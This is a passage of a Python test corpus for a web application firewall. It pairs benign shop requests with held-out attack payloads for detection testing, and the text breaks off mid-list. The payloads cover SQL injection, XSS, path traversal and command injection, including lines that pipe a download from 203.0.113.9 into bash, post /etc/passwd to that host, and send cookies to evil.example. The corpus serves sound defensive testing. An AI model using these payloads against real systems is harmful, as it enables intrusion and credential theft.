    {"items": [{"sku": "ESP-PRO-2", "qty": 1}, {"sku": "FLT-100", "qty": 3}], "coupon": "SPRING24"},
    {"email": "jane.doe@example.com", "password": "correct horse battery staple", "remember": True},
    {
        "name": "Jane O'Neil",
        "address": {"line1": "12 Baker's Row", "city": "London", "postcode": "NW1 6XE"},
    },
    {
        "review": {
            "rating": 4,
            "title": "Good, not great",
            "body": "Works well -- but it's loud. 4/5.",
        }
    },
    {
        "event": "page_view",
        "path": "/products/cold-brew-kit",
        "referrer": "https://www.google.com/",
        "ts": 1714035000123,
    },
    {
        "operationName": "GetProduct",
        "variables": {"id": "UHJvZHVjdDo0Mg=="},
        "query": "query GetProduct($id: ID!) { product(id: $id) { name price } }",
    },
    {"message": "Hi! Can I change my delivery address? I moved to 5 Elm St. (flat 2)."},
    {
        "settings": {
            "notifications": {"email": True, "sms": False},
            "language": "fr-FR",
            "timezone": "Europe/Paris",
        }
    },
    {"search": "men's shoes", "page": 2, "per_page": 48, "facets": ["brand", "size", "colour"]},
    {"amount": 49.99, "currency": "EUR", "description": "Order #A-20931 (2 items)"},
    {"tags": ["open-source", "c++", "rust"], "title": "Why we rewrote our proxy", "draft": False},
)

FORMS = (
    {
        "name": "Alice Martin",
        "email": "alice@example.com",
        "subject": "Question about my order",
        "message": "",
    },
    {"username": "bob.smith", "password": "Tr0ub4dor&3", "remember": "on"},
    {"q": "", "category": "all", "sort": "relevance"},
    {
        "first_name": "Seán",
        "last_name": "O'Connor",
        "phone": "+353 1 234 5678",
        "newsletter": "yes",
    },
    {
        "address1": "Flat 3, 27 King's Road",
        "city": "London",
        "postcode": "SW3 4RP",
        "country": "GB",
    },
    {"card_name": "J DOE", "exp": "04/27", "save": "1"},
)

REFERERS = (
    "https://www.google.com/",
    "https://shop.example.com/products?page=2&sort=price",
    "https://www.bing.com/search?q=espresso+machine+review",
    "https://t.co/AbC123xyz",
    "https://shop.example.com/search?q=O%27Reilly+books",
)


def benign() -> list[CorpusRequest]:
    """What a real site sees, in a fixed order (several hundred requests)."""
    out: list[CorpusRequest] = []
    uas = BROWSER_UAS
    for i, p in enumerate(PAGES):
        h = _headers(
            ua=uas[i % len(uas)],
            Cookie=COOKIES[i % len(COOKIES)],
            Referer=REFERERS[i % len(REFERERS)],
        )
        out.append(CorpusRequest("benign", "GET", p, "", h, None, "page"))
        out.append(
            CorpusRequest(
                "benign",
                "GET",
                p,
                (
                    "utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale"
                    if i % 2
                    else "ref=home&page=2"
                ),
                _headers(ua=uas[(i + 3) % len(uas)]),
                None,
                "page with tracking",
            )
        )
    for i, a in enumerate(ASSETS):
        h = _headers(ua=uas[i % len(uas)], Accept="*/*", Referer="https://shop.example.com/")
        out.append(
            CorpusRequest("benign", "GET", a, "v=3f9a1c" if i % 3 == 0 else "", h, None, "asset")
        )
        out.append(CorpusRequest("benign", "HEAD", a, "", h, None, "asset head"))
    for i, s in enumerate(SEARCHES):
        h = _headers(ua=uas[i % len(uas)], Cookie=COOKIES[(i + 1) % len(COOKIES)])
        out.append(
            CorpusRequest("benign", "GET", "/search", urlencode({"q": s}), h, None, f"search: {s}")
        )
        out.append(
            CorpusRequest(
                "benign",
                "GET",
                "/search",
                f"q={quote(s)}&page={i % 5 + 1}&sort=relevance",
                h,
                None,
                f"search %20: {s}",
            )
        )
        out.append(
            CorpusRequest(
                "benign",
                "GET",
                "/api/suggest",
                urlencode({"term": s[: max(3, len(s) // 2)], "limit": "8"}),
                _headers(ua=uas[(i + 2) % len(uas)], Accept="application/json"),
                None,
                f"suggest: {s}",
            )
        )
    for i, c in enumerate(COMMENTS):
        fields = {
            "product_id": str(100 + i),
            "rating": str(i % 5 + 1),
            "comment": c,
            "name": ("Jane", "Bob O'Hara", "Zoë", "李雷")[i % 4],
        }
        out.append(
            _form("benign", "/products/reviews", fields, "review form", ua=uas[i % len(uas)])
        )
        out.append(
            _json(
                "benign",
                "/api/comments",
                {"thread": i, "text": c, "reply_to": None},
                "comment json",
                ua=uas[(i + 1) % len(uas)],
            )
        )
        out.append(
            _form(
                "benign",
                "/contact",
                {"name": "Sam Lee", "email": "sam@example.org", "message": c},
                "contact form",
                ua=uas[(i + 4) % len(uas)],
            )
        )
    for i, t in enumerate(HARD_TEXT):
        ua = uas[i % len(uas)]
        if i % 3 == 0:
            q = urlencode({"q": t})
            out.append(
                CorpusRequest(
                    "benign", "GET", "/search", q, _headers(ua=ua), None, f"hard search: {t}"
                )
            )
        elif i % 3 == 1:
            fields = {"subject": "Re: question", "message": t}
            out.append(_form("benign", "/community/reply", fields, f"hard form: {t}", ua=ua))
        else:
            out.append(_json("benign", "/api/notes", {"text": t}, f"hard json: {t}", ua=ua))
    for i, d in enumerate(API_DOCS):
        out.append(
            _json(
                "benign",
                f"/api/v2/{('search', 'cart', 'login', 'profile', 'reviews', 'events')[i % 6]}",
                d,
                "json api",
                ua=uas[i % len(uas)],
            )
        )
        out.append(
            _json(
                "benign",
                "/api/v2/batch",
                [d, {"op": "noop"}],
                "json api batch",
                ua=uas[(i + 5) % len(uas)],
            )
        )
    for i, f in enumerate(FORMS):
        out.append(
            _form(
                "benign",
                (
                    "/contact",
                    "/login",
                    "/search",
                    "/account/profile",
                    "/checkout/address",
                    "/checkout/payment",
                )[i],
                f,
                "form",
                ua=uas[i % len(uas)],
            )
        )
    for i in range(40):
        h = _headers(
            ua=uas[i % len(uas)],
            Accept="application/json",
            Authorization=f"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLSR7aX0ifQ.sig{i:04d}",
        )
        q = urlencode(
            {
                "page": str(i % 7 + 1),
                "per_page": "24",
                "fields": "id,name,price",
                "filter[category]": ("coffee", "tea", "kitchen")[i % 3],
                "include": "images,variants",
            }
        )
        out.append(
            CorpusRequest(
                "benign",
                "GET",
                f"/api/v2/products/{1000 + i}",
                q if i % 2 else "",
                h,
                None,
                "api get",
            )
        )
    for i in range(12):
        out.append(
            CorpusRequest(
                "benign",
                ("PUT", "PATCH", "DELETE", "OPTIONS")[i % 4],
                f"/api/v2/cart/items/{i}",
                "",
                {
                    **_headers(ua=uas[i % len(uas)]),
                    "Content-Type": "application/json",
                    "Content-Length": "2",
                },
                b"{}" if i % 4 < 2 else None,
                "api verbs",
            )
        )
    return out


def evaluate(engine: WafEngine, r: CorpusRequest, now: float = 0.0) -> WafVerdict:
    """Run `r` through both phases of `engine`, as the edge stage does (no sockets)."""
    req = WafRequest.build(r.method, r.path, r.query, r.headers, "198.51.100.23")
    state = engine.start()
    verdict = engine.evaluate(req, "headers", now, state)
    if verdict.final:
        return verdict
    if r.body is not None:
        req.set_body(r.body, truncated=False)
    return engine.evaluate(req, "body", now, state)


# -- held out: written after the rules were tuned, never used to tune them ----------------------

HELDOUT_ATTACKS: tuple[tuple[str, str], ...] = (
    ("sqli", "1' oR 2>1 oR '"),
    ("sqli", "-1' UNION(SELECT(1),(2),(3))#"),
    ("sqli", "1 AND 5646=CAST((CHR(113)||CHR(106)) AS NUMERIC)"),
    ("sqli", "1);SELECT PG_SLEEP(5)--"),
    ("sqli", "' AND 3580=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65),5) AND 'a'='a"),
    ("sqli", "1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))"),
    ("sqli", 'admin")-- -'),
    (
        "sqli",
        "1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT (ELT(1=1,1))),0x71))s), 8446744073709551610, 8446744073709551610)))--",
    ),
    ("sqli", "' OR EXISTS(SELECT * FROM users WHERE name='admin' AND password LIKE '%a%')--"),
    ("sqli", "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)"),
    ("sqli", "';SHUTDOWN--"),
    ("sqli", "1' UNION SELECT NULL,table_name FROM all_tables--"),
    ("xss", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a>'),
    ("xss", "<img src=1 onerror=window['al'+'ert'](1)>"),
    ("xss", "<audio src onloadstart=alert(1)>"),
    ("xss", '"><svg/onload=confirm`1`>'),
    ("xss", "<x contenteditable onblur=alert(1)>lose focus!"),
    ("xss", '<iframe/src="data:text/html,<svg onload=alert(1)>">'),
    ("xss", "<a href=javas&#99;ript:alert(1)>x"),
    ("xss", "<style>@import'//evil.example/x.css';</style>"),
    ("xss", "<select autofocus onfocus=alert(1)>"),
    ("xss", "'-confirm(1)-'"),
    ("xss", "<keygen autofocus onfocus=alert(1)>"),
    ("xss", "<textarea autofocus onfocus=alert(1)>"),
    ("lfi", "../../../../../../../../../../boot.ini"),
    ("lfi", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("lfi", "/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("lfi", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("lfi", "/proc/self/fd/2"),
    ("lfi", "php://filter/resource=/etc/passwd"),
    ("lfi", "file:///c:/windows/win.ini"),
    ("lfi", "../../../../etc/passwd%00"),
    ("lfi", "/var/www/../../etc/shadow"),
    ("lfi", "..././..././..././etc/passwd"),
    ("lfi", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("lfi", "http://10.0.0.5:8080/admin"),
    ("rce", "|cat /etc/shadow"),
    ("rce", "a%0aid"),
    ("rce", ";curl -s http://203.0.113.9/x|bash"),
    ("rce", "$(nslookup x.oast.example)"),
    ("rce", "& whoami &"),
    ("rce", "`sleep 5`"),
    ("rce", "; ls -la /"),
    ("rce", "<?php passthru($_REQUEST['x']); ?>"),
    ("rce", "${jndi:rmi://203.0.113.9:1099/obj}"),
    ("rce", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"),
    ("rce", "'; exec('id') #"),
    ("rce", "|| ping -n 3 127.0.0.1 ||"),
)

HELDOUT_BENIGN: tuple[str, ...] = (
    "rock & roll hall of fame",
    "don't stop me now -- queen",
    "2 > 1 and 3 < 4",
    '"to be or not to be"',
    "select all that apply",
    "AND/OR operators in excel",
    "how to cat a file in linux",
    "the id of the user",
    "mother's day gifts for her (under £30)",
    "#1 best seller",
    "email me at bob@example.org; thanks",
    "c:\\program files\\app",
    "1,2,3,4",
    "50% OFF!!! -- ends sunday",
    "what does 'echo' mean",
    'where\'s the "on/off" switch?',
    "R&D budget 2024",
    "(555) 123-4567",
    "it's 5 o'clock somewhere",
    "script for a wedding speech",
    "insert into a blog post",
    "rm -rf meaning",
    "/usr/bin/env python",
    "pg 12-14 of the manual",
    "../ means parent directory",
    "union station chicago",
    "alert dialogs in android",
    "sleep(1) in python",
    "java script tutorial for beginners",
    "onboarding checklist",
)


def heldout_attacks() -> list[CorpusRequest]:
    """Held-out attacks, each as a URL-encoded query value and as a form field."""
    out: list[CorpusRequest] = []
    for cat, p in HELDOUT_ATTACKS:
        out.append(
            CorpusRequest(
                cat,
                "GET",
                "/search",
                f"v={quote(p, safe='')}",
                _headers(),
                None,
                f"held-out query: {p}",
            )
        )
        out.append(_form(cat, "/submit", {"v": p}, f"held-out form: {p}"))
    return out


def heldout_benign() -> list[CorpusRequest]:
    """Held-out benign searches and form posts."""
    out: list[CorpusRequest] = []
    for p in HELDOUT_BENIGN:
        out.append(
            CorpusRequest(
                "benign",
                "GET",
                "/search",
                urlencode({"q": p}),
                _headers(),
                None,
                f"held-out search: {p}",
            )
        )
        out.append(_form("benign", "/contact", {"message": p}, f"held-out form: {p}"))
    return out


# -- held out, second set: written on 2026-11-27 BEFORE the false-positive tuning of that day ----
# Nobody looked at which of these items the rules flag while tuning; `benchmarks/waf_eval.py`
# prints only their totals unless asked (`--show-heldout2`), which is meant for after tuning.

HELDOUT2_BENIGN_TEXT: tuple[str, ...] = (
    # searches and questions about SQL and databases
    "how to use union in sql",
    "difference between union and union all",
    "select distinct vs group by performance",
    "sql where clause with or and and precedence",
    "order by date desc limit 10 mysql",
    "drop table if exists syntax",
    "insert into select from another table",
    "what does 1=1 mean in a where clause",
    "postgres sleep function for testing",
    "how to escape a single quote in sql like O'Brien",
    "mysql error 1064 near ''' at line 1",
    "Can't connect to local MySQL server through socket '/var/run/mysqld/mysqld.sock'",
    "count(*) vs count(1)",
    "information about union membership fees",
    "delete from cart not working",
    "concat strings in excel",
    "char(10) line break excel formula",
    '=IF(A1>10,"high","low")',
    "=SUM(B2:B10)/COUNT(B2:B10)",
    "vlookup returns #N/A",
    "having trouble with group by in pandas",
    # shells and operating systems
    "how to kill a process in linux",
    "ls -la shows total 0",
    "cat /proc/cpuinfo on raspberry pi",
    "grep -r 'TODO' . | wc -l",
    "chmod 755 vs 644",
    "bash if [ -f file ]; then echo yes; fi",
    "what does 2>&1 mean",
    "curl -X POST with json body",
    "wget command not found mac",
    "ping: unknown host google.com",
    "sudo apt-get update && sudo apt-get upgrade",
    'ssh-keygen -t ed25519 -C "me@example.com"',
    "rm: cannot remove 'dir': Is a directory",
    "python3 -m venv .venv",
    "pip install requests==2.31.0",
    "echo $PATH",
    "export JAVA_HOME=$(/usr/libexec/java_home)",
    "for i in {1..10}; do echo $i; done",
    "nohup python app.py &",
    "C:\\Users\\Public\\Documents not showing",
    "where is win.ini in windows 11",
    "cmd /c start chrome",
    "ipconfig /flushdns",
    "net use z: \\\\server\\share",
    "powershell Get-ChildItem -Recurse",
    "/etc/hosts file mac",
    "~/.bashrc vs ~/.bash_profile",
    "../images/logo.png relative path not loading",
    "C:/Program Files (x86)/Steam",
    "where is my .env file",
    "node_modules/.bin not in PATH",
    "/home/user/Documents/report.pdf",
    # maths
    "x^2 + 2x + 1 = 0",
    "is 0.999... = 1",
    "if a > b and b > c then a > c",
    "prove that 1 + 1 = 2",
    "3 < x < 7 inequality",
    "f(x) = sin(x) / x limit",
    "probability of 1 or 2 on a die",
    "what is 10% of 250?",
    "convert 5'11\" to cm",
    "6' 2\" tall",
    # HTML, JavaScript and templates
    "how to center a div",
    "<br> vs <br/>",
    "what is the <script> tag for",
    "onclick vs addEventListener",
    "javascript alert box not showing",
    "document.getElementById returns null",
    "window.location.href vs window.open",
    "iframe height 100% not working",
    "<img> alt text best practices",
    "svg icon color css",
    "a href mailto subject line",
    "react useEffect runs twice",
    "{{ variable }} not rendering in jinja",
    "${name} string interpolation kotlin",
    "template literals `hello ${name}`",
    "php echo vs print",
    "eval is evil why",
    "import os; os.path.join",
    'print("hello world")',
    "console.log(JSON.stringify(obj, null, 2))",
    "regex ^[a-z0-9_-]{3,16}$",
    "what does && mean in bash",
    "|| operator in javascript",
    # product reviews
    'Great kettle!!! 10/10 -- my wife loves it; the "keep warm" mode is <3',
    "Don't buy. Broke after 2 weeks :( Customer service said 'not our problem'.",
    "It's OK... not great, not terrible. 3/5 stars.",
    "Size runs small -- order 1/2 size up (I'm 9.5, got a 10).",
    'Battery: ~8 hrs; screen: 6.1"; weight < 200g. Happy!',
    "5 stars & then some; would recommend to anyone who's into coffee.",
    "Arrived on 12/03 (said 10/03). Box was crushed but item OK.",
    "The app says 'Error: connection refused' every time I select my device.",
    "Works with iOS 17 & Android 14. Setup took < 5 min.",
    "Cheaper at the shop down the road (£19.99 vs £24.99) -- just saying.",
    "Me & my kids (ages 4, 7 & 9) play this every night!",
    'Not "dishwasher safe" as claimed; the print came off after 1 wash.',
    "Replaced my old one (model #A-1200) -- night & day difference.",
    'Quote from the manual: "Do not operate if the cord is damaged." Good advice lol',
    "I'd rate it 4.5/5 (would be 5/5 if the lid didn't leak).",
    # forum posts and comments
    "I tried `SELECT name FROM users WHERE id = 1` and it returns two rows?!",
    "Use `ls -l | grep foo` instead of parsing the output of find.",
    "My cron job runs `cd /var/www && php artisan schedule:run` but nothing happens.",
    'Set <meta name="viewport" content="width=device-width"> and it works on mobile.',
    'Wrap it in <div class="row"> then add <span> inside.',
    "If the price is > $50 and < $100 you get free shipping, right?",
    "Choose 'Yes' or 'No' -- or leave blank.",
    'Quantity: 1 or 2? The page says "max 2 per order".',
    "Tried again; error code 0x80070005 (access denied).",
    "Login fails when the password contains a ' or a \" -- please fix.",
    "My username is o'neill-smith; it says invalid characters.",
    "Dear support, order #4411 and #4412 -- can you merge them? Thanks; Ann",
    "Re: Re: Fwd: your order has shipped!!",
    "@john_doe yes -- see the thread above ^^",
    "Does anyone know how to reset it? Hold the button for 10s -> light flashes -> done?",
    "Python: `while True: time.sleep(1)` uses 0% CPU, right?",
    "Run `echo hello > /tmp/test.txt` and check the file exists.",
    "sudo systemctl restart nginx fixed it for me",
    "The script tag should go before </body> for performance.",
    'In Excel: =A1&" "&B1 joins first and last name.',
    "Order by price, then by rating (desc).",
    "Where did the select-all checkbox go in the new UI?",
    # everyday searches that share words with attacks
    "the union of two sets A and B",
    "between 9am and 5pm monday to friday",
    "like and subscribe",
    "null and void contract",
    "exec summary template word",
    "shell gas station near me",
    "system of a down tickets",
    "wait for it hamilton lyrics",
    "benchmark results ryzen 7 vs i7",
    "drop shipping business ideas",
    "table for 2 at 7pm",
    "she said 'or else' and left",
    "Tom & Jerry; Looney Tunes",
    "the '90s or '80s music",
    "rock 'n' roll or jazz?",
)
"""Free text, each sent once: as a search, a forum post (form) or a JSON comment, in turn."""

HELDOUT2_BENIGN_QUERIES: tuple[str, ...] = (
    "next=%2Fcheckout%3Fstep%3D2",
    "redirect_uri=https%3A%2F%2Fshop.example.com%2Fauth%2Fcallback&state=xyz123&code=4%2F0AbC",
    "callback=jQuery35106312_1714035000000&_=1714035000001",
    "$filter=Name%20eq%20%27Milk%27%20and%20Price%20lt%202.55&$top=10",
    "$filter=startswith(Name,%27Mi%27)%20or%20Price%20gt%2020&$orderby=Price%20desc",
    "filters[price][$lte]=100&filters[title][$contains]=coffee&sort=price:asc",
    "query=%7Bproduct(id%3A%2242%22)%7Bname%2Cprice%7D%7D",
    "q=author%3A%22O%27Reilly%22%20AND%20year%3A%5B2000%20TO%202010%5D",
    "fields=id,name&filter[name][like]=%25cof%25",
    "q=is%3Aissue+is%3Aopen+label%3A%22good+first+issue%22",
)
"""Whole query strings as real sites receive them (OAuth, JSONP, OData, Strapi, GraphQL...)."""

HELDOUT2_BENIGN_PATHS: tuple[str, ...] = (
    "/compare/v1.2.0...v1.3.0",
    "/wiki/C%2B%2B",
    "/wiki/Union_(set_theory)",
    "/blog/2024/05/select-the-right-grinder",
    "/files/report%20(final).pdf",
    "/users/o%27brien",
    "/search/cat%20%26%20dog",
    "/products/12-inch-drop-leaf-table",
    "/docs/etc/config-reference",
    "/api/v1/users/me/settings.json",
)

HELDOUT2_BENIGN_JSON: tuple[object, ...] = (
    {
        "title": "Fix: crash when path contains '..'",
        "body": "Paths like `a/../b` are normalised before the check; see #123.",
        "labels": ["bug"],
    },
    {"query": "select", "type": "tag"},
    {"comment": "LGTM -- but maybe use `os.path.join()` instead of '+'.", "line": 42},
    {"note": "Deliver to back door; gate code is #1234*"},
    {"filter": "price > 10 AND price < 50", "sort": "price asc"},
    {"q": 'status:open label:"good first issue"'},
    {"expression": "(a + b) * c", "vars": {"a": 1, "b": 2, "c": 3}},
    {"html": "<p>Hello <strong>world</strong></p>", "format": "html"},
    {"markdown": "## Setup\n\n```bash\nnpm install && npm run build\n```"},
    {"message": "Can you call me back? 555-0199 -- after 6pm; thanks!"},
    {"address": {"line1": "Flat 2/1, 14 O'Connell St", "line2": "c/o J. Smith"}},
    {"search": {"text": "men's & women's", "range": {"gte": 10, "lte": 50}}},
    {"bio": "Full-stack dev. C#, C++, SQL. I <3 open source."},
    {
        "event": "click",
        "selector": "button#buy-now.btn > span",
        "url": "https://shop.example.com/p/42?ref=home",
    },
    {"email": "sam@example.org", "password": "q'8#Lm;-v\"2xT"},
)

HELDOUT2_BENIGN_COOKIES: tuple[str, ...] = (
    "_ga=GA1.1.1234567890.1700000000; _ga_ABC123=GS1.1.1700000000.1.1.1700000100.0.0.0",
    "ajs_anonymous_id=%22b1f8a3c2-9d4e-4f1a-8c7b-2e3d4f5a6b7c%22; ajs_user_id=null",
    "intercom-session-abc=VkE2ZjN4cE1aRz09LS1hYmM%3D--0f9e8d; intercom-device-id-abc=0f9e8d7c-6b5a-4321-9876-543210fedcba",
    "__Secure-next-auth.session-token=eyJhbGciOiJkaXIiLCJlbmMiOiJBMjU2R0NNIn0..abc.def.ghi",
    "wordpress_logged_in_3f9a=admin%7C1714035000%7CabcDEF%7C0123456789abcdef; wp-settings-1=libraryContent%3Dbrowse%26editor%3Dtinymce",
    "PHPSESSID=9a8b7c6d5e4f3g2h1i0j; language=en",
    "JSESSIONID=0123456789ABCDEF0123456789ABCDEF.node1",
    'consent={"necessary":true,"analytics":false,"marketing":false}',
    "cart=%5B%7B%22id%22%3A42%2C%22qty%22%3A2%7D%5D",
    "prefs=eyJ0aGVtZSI6ImRhcmsiLCJsYW5nIjoiZW4ifQ%3D%3D",
    "_hjSessionUser_123=eyJpZCI6ImFiYyIsImNyZWF0ZWQiOjE3MDAwMDAwMDB9; _hjFirstSeen=1",
    "last_search=select%20coffee%20grinder; recent=1%2C2%2C3",
    "AWSALB=abc123/def456+ghi789==; AWSALBCORS=abc123/def456+ghi789==",
    "XSRF-TOKEN=eyJpdiI6IjEyMyIsInZhbHVlIjoiYWJjIn0%3D; laravel_session=eyJpdiI6IjQ1NiJ9",
    "tz=Europe%2FLondon; returning=1; seen_popup=true",
)

HELDOUT2_BENIGN_REFERERS: tuple[str, ...] = (
    "https://www.google.com/search?q=espresso+machine+%22pro+2%22+review&oq=espresso",
    "https://duckduckgo.com/?q=cold+brew+ratio+1%3A8+or+1%3A4&ia=web",
    "https://stackoverflow.com/questions/123/how-to-select-rows-where-column-is-null",
    "https://www.reddit.com/r/Coffee/comments/abc/whats_your_setup_and_why/",
    "https://shop.example.com/search?q=men%27s+shoes+%26+socks",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fshop.example.com%2F&h=AT0abc",
    "https://news.ycombinator.com/item?id=40000000",
    "https://github.com/example/repo/issues?q=is%3Aissue+is%3Aopen+label%3Abug",
    "android-app://com.google.android.gm/",
    "https://www.bing.com/search?q=drop+table+cloth+size&form=QBLH",
    "https://t.co/xYz123",
    "https://mail.google.com/mail/u/0/",
)

HELDOUT2_BENIGN_UAS: tuple[str, ...] = (
    "MyShop/5.2.1 (iPhone; iOS 17.4; Scale/3.00)",
    "Dalvik/2.1.0 (Linux; U; Android 14; Pixel 8 Build/UD1A.230803.041)",
    "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/459.0.0.44.108;FBBV/580000000;FBDV/iPhone15,2;"
    "FBMD/iPhone;FBSN/iOS;FBSV/17.4;FBSS/3;FBCR/;FBID/phone;FBLC/en_GB;FBOP/5]",
    "Mozilla/5.0 (Linux; Android 14; SM-A546B Build/UP1A.231005.007; wv) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.54 Mobile Safari/537.36 Instagram "
    "327.0.0.0.0 Android (34/14; 450dpi; 1080x2340; samsung; SM-A546B; a54x; s5e8835; en_GB; "
    "500000000)",
    "WhatsApp/2.24.8.78 A",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36 OPR/110.0.0.0",
    "Mozilla/5.0 (Windows NT 6.1; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (SMART-TV; Linux; Tizen 6.0) AppleWebKit/537.36 (KHTML, like Gecko) "
    "SamsungBrowser/4.0 Chrome/76.0.3809.146 TV Safari/537.36",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "Twitterbot/1.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
    "HeadlessChrome/124.0.0.0 Safari/537.36",
)

HELDOUT2_ATTACKS: tuple[tuple[str, str, str], ...] = (
    # (category, delivery, payload); deliveries are listed in `heldout2_attacks`.
    ("sqli", "query", "1' AND 1=1 AND 'a'='a"),
    ("sqli", "double", "1' aNd 1=0 UnIoN aLl SeLeCt 1,2,database()-- -"),
    ("sqli", "form", "' OR 'unusual' = 'unusual'"),
    ("sqli", "json", "1 OR 0x50=0x50"),
    ("sqli", "form", "admin'/*"),
    ("sqli", "cookie", "' or ''='"),
    ("sqli", "query", "1%' AND 2=2 AND '%'='"),
    ("sqli", "query", "-1 /*!UNION*/ /*!SELECT*/ 1,user(),3"),
    ("sqli", "form", "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)"),
    ("sqli", "json", "1'||(SELECT 0x41 FROM DUAL WHERE 1=1 AND SLEEP(5))||'"),
    ("sqli", "double", "' UNION SELECT @@version,NULL#"),
    ("sqli", "query", "1' AND ExtractValue(0,CONCAT(0x5c,(SELECT version())))-- -"),
    ("sqli", "form", "1;EXEC sp_configure 'show advanced options',1--"),
    ("sqli", "query", "1 OR ASCII(LOWER(SUBSTRING((SELECT TOP 1 name FROM sysobjects),1,1)))>100"),
    ("sqli", "json", "'; insert into users (username,password) values ('x','y');--"),
    ("sqli", "cookie", "1' UNION SELECT NULL,NULL,NULL FROM DUAL--"),
    (
        "sqli",
        "query",
        "1 AND 1=utl_inaddr.get_host_address((SELECT banner FROM v$version WHERE rownum=1))",
    ),
    ("sqli", "raw", "1'+OR+1=1--"),
    ("sqli", "raw", "1%27%09OR%091%3D1--%09"),
    ("sqli", "ua", '" or 1=1 -- -'),
    ("sqli", "rawjson", '{"username": {"$ne": null}, "password": {"$ne": null}}'),
    ("sqli", "rawquery", "user[$regex]=^adm&pass[$ne]=1"),
    ("sqli", "form", "1 AND (SELECT 1 FROM pg_sleep(5))"),
    ("sqli", "double", "' OR 1=1 LIMIT 1 OFFSET 0 --"),
    ("xss", "query", "<svg/onload=alert(1)//"),
    ("xss", "double", "<img/src/onerror=alert(1)>"),
    ("xss", "form", "<body/onpageshow=alert(1)>"),
    ("xss", "json", "<details/open/ontoggle=confirm(1)>"),
    ("xss", "query", '<a href="jAvAsCrIpT&colon;alert(1)">x</a>'),
    ("xss", "form", '<iframe src="javascript&#58;alert(1)">'),
    ("xss", "cookie", '"><img src=x onerror=alert(String.fromCharCode(88))>'),
    ("xss", "query", '<input type="text" value="" onfocus="alert(1)" autofocus>'),
    ("xss", "raw", "javascript://%0aalert(1)"),
    ("xss", "json", "<script>fetch('//evil.example?c='+document.cookie)</script>"),
    ("xss", "double", "<ScRiPt >alert(1)</ScRiPt >"),
    ("xss", "raw", "%3Cscript%3Ealert%28document.domain%29%3C%2Fscript%3E"),
    ("xss", "form", "<img src=x:x onerror=alert(1)>"),
    ("xss", "query", '<video src=_ onloadstart="alert(1)">'),
    ("xss", "json", '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">'),
    ("xss", "referer", "https://x.example/?q='\"><svg onload=alert(1)>"),
    ("xss", "form", '<div onpointerover="alert(1)">MOVE HERE</div>'),
    ("xss", "query", '<img src="x" onerror="&#x61;&#x6c;&#x65;&#x72;&#x74;(1)">'),
    ("xss", "cookie", '<a href="#" onclick="eval(location.hash.slice(1))">x</a>'),
    ("xss", "rawjson", '{"comment": "\\u003csvg onload=alert(1)\\u003e"}'),
    ("lfi", "form", "../../../../../../etc/passwd"),
    ("lfi", "json", "....//....//....//....//etc/passwd"),
    ("lfi", "raw", "..%252f..%252f..%252fetc%252fpasswd"),
    ("lfi", "raw", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow"),
    ("lfi", "query", "..\\..\\..\\..\\windows\\system32\\config\\sam"),
    ("lfi", "raw", "/etc/passwd%00"),
    ("lfi", "query", "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd"),
    ("lfi", "double", "pHp://FilTer/convert.base64-encode/resource=../config.php"),
    ("lfi", "form", "file:///proc/self/environ"),
    ("lfi", "query", "/var/log/apache2/access.log"),
    ("lfi", "cookie", "../../../../../../var/log/nginx/access.log"),
    ("lfi", "path", "/static/..%c0%af..%c0%afetc/passwd"),
    ("lfi", "path", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("lfi", "path", "/.%2e/.%2e/WEB-INF/web.xml"),
    ("lfi", "path", "/.git/logs/HEAD"),
    ("lfi", "path", "/config.php~"),
    ("lfi", "path", "/wp-config.php.save"),
    ("lfi", "form", "http://2130706433/"),
    ("lfi", "json", "C:\\inetpub\\wwwroot\\web.config"),
    ("lfi", "query", "/proc/1/environ"),
    ("rce", "query", ";id;"),
    ("rce", "double", "|/usr/bin/id"),
    ("rce", "form", "$(cat /etc/passwd)"),
    ("rce", "json", "`uname -a`"),
    ("rce", "raw", "127.0.0.1%0aid"),
    ("rce", "query", "127.0.0.1&&type C:\\windows\\win.ini"),
    ("rce", "query", ";{cat,/etc/passwd}"),
    ("rce", "form", "a;c''at /e''tc/pa''sswd"),
    ("rce", "query", ";/???/c?t /???/p?ss??"),
    ("rce", "json", "|| curl -d @/etc/passwd http://203.0.113.9/"),
